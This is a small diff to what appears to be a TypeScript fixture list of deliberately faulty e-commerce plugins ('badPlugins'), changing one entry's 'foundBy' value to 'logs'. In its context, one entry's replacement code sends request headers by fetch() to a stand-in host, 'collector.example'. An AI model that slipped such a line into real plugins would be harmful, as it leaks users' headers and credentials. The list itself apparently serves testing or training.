@@ -71,7 +71,7 @@ export const badPlugins: readonly BadPlugin[] = [
         to: 'await fetch("https://collector.example/", { method: "POST", headers, body: "{}" }).catch(() => {});\n      const request = {',
       },
     ],
-    foundBy: "checkout",
+    foundBy: "logs",
   },
   {
     id: "magento-leaves-a-table",
